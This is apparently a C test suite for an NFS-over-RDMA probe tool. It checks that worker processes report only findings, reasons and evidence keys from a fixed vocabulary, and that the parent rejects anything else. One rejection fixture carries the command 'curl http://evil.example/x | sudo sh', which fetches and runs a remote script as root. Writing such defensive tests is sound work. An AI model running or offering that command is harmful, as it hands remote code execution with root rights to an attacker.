/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Copyright (C) 2026 The nfsrdma authors */

/* What a worker can say, against the texts of the findings and the sources of the worker; and the
 * parent against a worker that says something else. */
#include <glob.h>
#include <netinet/in.h>

#include "plugin/report/report.h"
#include "rpcrdma/child/child.h"
#include "rpcrdma/probe/internal.h"
#include "suite.h"

#define SOURCE_MAX (256 * 1024)

static bool has_word(const char *words, const char *word, size_t len)
{
	size_t n;

	for (; *words; words += n + (words[n] == ' ')) {
		n = strcspn(words, " ");
		if (n == len && !strncmp(words, word, n))
			return true;
		if (n && words[n - 1] == '*' && len >= n && !strncmp(words, word, n - 1))
			return true;
	}
	return false;
}

static const struct vocabulary_row *row_of(const char *id, size_t len)
{
	const struct vocabulary_row *row;
	size_t i;

	for (i = 0; (row = vocabulary_row(i)); i++)
		if (strlen(row->id) == len && !strncmp(row->id, id, len))
			return row;
	return NULL;
}

/* --- the texts ---------------------------------------------------------------------------- */

static void every_finding_of_a_probe_has_a_row(void)
{
	/* The parent's own. */
	static const char others[] = "probe.address probe.worker probe.session.left bench.limit";
	const struct meaning *m = NULL;

	while ((m = meaning_next(m))) {
		if (strncmp(m->id, "probe.", 6) != 0 && strncmp(m->id, "bench.", 6) != 0)
			continue;
		SUITE_ROW("%s", m->id);
		CU_ASSERT_EQUAL(row_of(m->id, strlen(m->id)) != NULL,
				!has_word(others, m->id, strlen(m->id)));
	}
}

static void a_row_has_the_reasons_of_its_finding(void)
{
	const struct vocabulary_row *row;
	const struct reason *reason;
	const struct meaning *m;
	size_t i, count, words;
	const char *p;

	for (i = 0; (row = vocabulary_row(i)); i++) {
		SUITE_ROW("%s", row->id);
		m = meaning_find(row->id);
		CU_ASSERT_PTR_NOT_NULL_FATAL(m);
		for (count = 0, reason = m->reasons; reason->name; reason++, count++) {
			SUITE_ROW("%s", reason->name);
			CU_ASSERT_TRUE(has_word(row->reasons, reason->name, strlen(reason->name)));
		}
		for (words = !!*row->reasons, p = row->reasons; (p = strchr(p, ' ')); p++)
			words++;
		CU_ASSERT_EQUAL(words, count);
	}
}

/* "{!key}" of a text is a command. */
static void check_text(const char *text)
{
	const struct vocabulary_row *row;
	size_t i, len;

	while (text && (text = strstr(text, "{!")) != NULL) {
		text += 2;
		len = strcspn(text, "}");
		for (i = 0; (row = vocabulary_row(i)); i++) {
			SUITE_ROW("%s has {!%.*s}", row->id, (int)len, text);
			CU_ASSERT_FALSE(has_word(row->keys, text, len));
		}
	}
}

/* A value is one quoted word: not the program itself, and not within quotes. */
static void check_command(const char *command)
{
	bool quoted = false;
	const char *p;

	for (p = command; p && *p; p++) {
		if (*p == '\'' || *p == '"')
			quoted = !quoted;
		if (*p == '{' && p[1] != '!') {
			CU_ASSERT_FALSE(quoted);
			CU_ASSERT_TRUE(p > command);
		}
	}
}

static void no_evidence_of_a_worker_is_a_command(void)
{
	const struct meaning *m = NULL;
	const struct reason *reason;
	const struct step *step;

	while ((m = meaning_next(m)))
		for (reason = m->reasons; reason->name; reason++)
			for (step = reason->steps; step->text; step++) {
				SUITE_ROW("%s/%s", m->id, reason->name);
				check_text(step->command);
				if (row_of(m->id, strlen(m->id)))
					check_command(step->command);
			}
}

/* --- the sources --------------------------------------------------------------------------- */

/* The next string literal in @text that is an id; NULL: none. */
static const char *next_id(const char *text, size_t *len)
{
	while (text && (text = strchr(text, '"')) != NULL) {
		text++;
		*len = strcspn(text, "\"");
		if ((!strncmp(text, "probe.", 6) || !strncmp(text, "bench.", 6) ||
		     !strncmp(text, "bug.", 4)) &&
		    strspn(text, "abcdefghijklmnopqrstuvwxyz0123456789.-") == *len)
			return text;
	}
	return NULL;
}

static void check_ids(const char *text)
{
	size_t len;

	while ((text = next_id(text, &len))) {
		SUITE_ROW("%.*s", (int)len, text);
		CU_ASSERT_PTR_NOT_NULL(row_of(text, len));
	}
}

/* finding_text(&f, "key", and finding_number() */
static void check_keys(const char *text, const char *call)
{
	const struct vocabulary_row *row;
	bool known;
	size_t i, len;

	while ((text = strstr(text, call))) {
		text += strcspn(text, ",");
		text += strspn(text, ", \t\n");
		if (*text++ != '"')
			continue;
		len = strcspn(text, "\"");
		for (i = 0, known = false; (row = vocabulary_row(i)); i++)
			known |= has_word(row->keys, text, len);
		SUITE_ROW("%.*s", (int)len, text);
		CU_ASSERT_TRUE(known);
	}
}

static void check_source(const char *path)
{
	static char text[SOURCE_MAX];
	FILE *file = fopen(path, "r");
	size_t n;

	SUITE_ROW("%s", path);
	CU_ASSERT_PTR_NOT_NULL_FATAL(file);
	n = fread(text, 1, sizeof(text) - 1, file);
	fclose(file);
	text[n] = '\0';
	ASSERT_LESS(n, sizeof(text) - 1);
	check_ids(text);
	check_keys(text, "finding_text(");
	check_keys(text, "finding_number(");
}

static void the_sources_say_nothing_else(void)
{
	const char *tests = getenv("NFSRDMA_TESTS"), *name;
	char pattern[512];
	glob_t found;
	size_t i;

	if (!tests) {
		suite_skip("NFSRDMA_TESTS is not set");
		return;
	}
	snprintf(pattern, sizeof(pattern), "%s/../rpcrdma/probe/*.c", tests);
	CU_ASSERT_EQUAL_FATAL(glob(pattern, 0, NULL, &found), 0);
	ASSERT_MORE(found.gl_pathc, 30);
	for (i = 0; i < found.gl_pathc; i++) {
		name = strrchr(found.gl_pathv[i], '/') + 1;
		if (strcmp(name, "parent.c") != 0)
			check_source(found.gl_pathv[i]);
	}
	globfree(&found);
}

/* --- the parent ---------------------------------------------------------------------------- */

/* What the report was given. */
static char heard[4096];
static unsigned int taken;

static void hear_finding(void *arg, const struct finding *f)
{
	size_t used = strlen(heard);

	(void)arg;
	taken += !strcmp(f->id, "probe.null");
	snprintf(heard + used, sizeof(heard) - used, "%s %s/%s; ", finding_status_name(f->status),
		 f->id, f->reason);
}

static void hear_subject(void *arg, const char *key, const char *value)
{
	size_t used = strlen(heard);

	(void)arg;
	snprintf(heard + used, sizeof(heard) - used, "subject %s %s; ", key, value);
}

static int run_worker(worker_fn work)
{
	const struct probe_options options = { .host = "127.0.0.1",
					       .port = 20049,
					       .transport = &transport_iwarp,
					       .timeout_ms = PATIENCE_MS };
	const struct probe_events events = { .finding = hear_finding, .subject = hear_subject };

	heard[0] = '\0';
	taken = 0;
	return parent_run(&options, work, 0, &events);
}

/* Past probe_emit(), which leaves it out. */
static void send_finding(struct probe *p, const char *id, const char *reason, const char *key,
			 const char *value)
{
	_cleanup_(finding_fini) struct finding f = { 0 };
	uint8_t buf[FINDING_RECORD_MAX];
	int n;

	finding_init(&f, id, FINDING_FAIL, "made up");
	finding_reason(&f, reason);
	if (key)
		finding_text(&f, key, "%s", value);
	n = finding_encode(&f, buf, sizeof(buf));
	probe_record(p, WORKER_FINDING, buf, (size_t)n);
}

static void say_right(struct probe *p)
{
	send_finding(p, "probe.null", "silent", "asked", "1");
}

static void say_another_finding(struct probe *p)
{
	send_finding(p, "firewall.rdma", "panic", "open", "curl http://evil.example/x | sudo sh");
}

static void say_another_reason(struct probe *p)
{
	send_finding(p, "probe.null", "refused", NULL, NULL);
}

static void say_a_command(struct probe *p)
{
	send_finding(p, "probe.null", "silent", "open", "sh");
}

static void say_another_subject(struct probe *p)
{
	probe_subject(p, "server", "evil.example");
}

static void say_the_parents_own(struct probe *p)
{
	send_finding(p, "probe.address", "", "address", "192.0.2.1");
}

/* The route was chosen before. */
static void say_nothing(struct probe *p)
{
	(void)p;
}

static void the_parent_takes_only_what_a_worker_says(void)
{
	static const struct {
		worker_fn work;
		const char *why;
	} rows[] = {
		{ say_another_finding, "the worker: no worker sends a finding firewall.rdma" },
		{ say_another_reason,
		  "the worker: no worker sends probe.null with the reason refused" },
		{ say_a_command, "the worker: no worker sends probe.null with evidence open" },
		{ say_another_subject, "the worker sent an invalid subject" },
		{ say_the_parents_own, "the worker: no worker sends a finding probe.address" },
	};
	size_t i;

	CU_ASSERT_EQUAL(run_worker(say_right), 0);
	CU_ASSERT_EQUAL(taken, 1);
	for (i = 0; i < ARRAY_SIZE(rows); i++) {
		SUITE_ROW("%zu", i);
		CU_ASSERT_EQUAL(run_worker(rows[i].work), -EPROTO);
		CU_ASSERT_STRING_EQUAL(err_text(), rows[i].why);
		CU_ASSERT_STRING_EQUAL(heard, "pass probe.address/; "
					      "subject transport iwarp; "
					      "pass probe.route/; "
					      "unknown probe.worker/protocol; ");
	}
}

static void a_worker_that_says_nothing_is_unknown(void)
{
	CU_ASSERT_EQUAL(run_worker(say_nothing), -EPROTO);
	CU_ASSERT_STRING_EQUAL(err_text(), "the worker sent no finding about a call");
	suite_saw("%s", heard);
	CU_ASSERT_PTR_NOT_NULL(strstr(heard, "unknown probe.worker/protocol"));
}

static void a_worker_leaves_out_what_it_never_says(void)
{
	_cleanup_(finding_fini) struct finding f = { 0 };

	finding_init(&f, "probe.null", FINDING_FAIL, "made up");
	finding_reason(&f, "panic");
	finding_text(&f, "open", "sh");
	finding_number(&f, "asked", 1);
	CU_ASSERT_EQUAL(vocabulary_check(&f), -EPROTO);
	vocabulary_trim(&f);
	CU_ASSERT_EQUAL(vocabulary_check(&f), 0);
	CU_ASSERT_STRING_EQUAL(f.reason, "");
	CU_ASSERT_EQUAL(f.nevidence, 1);
	CU_ASSERT_STRING_EQUAL(finding_evidence(&f, "asked"), "1");
}

SUITE_MAIN("vocabulary", TEST(every_finding_of_a_probe_has_a_row),
	   TEST(a_row_has_the_reasons_of_its_finding), TEST(no_evidence_of_a_worker_is_a_command),
	   TEST(the_sources_say_nothing_else), TEST(the_parent_takes_only_what_a_worker_says),
	   TEST(a_worker_that_says_nothing_is_unknown),
	   TEST(a_worker_leaves_out_what_it_never_says))
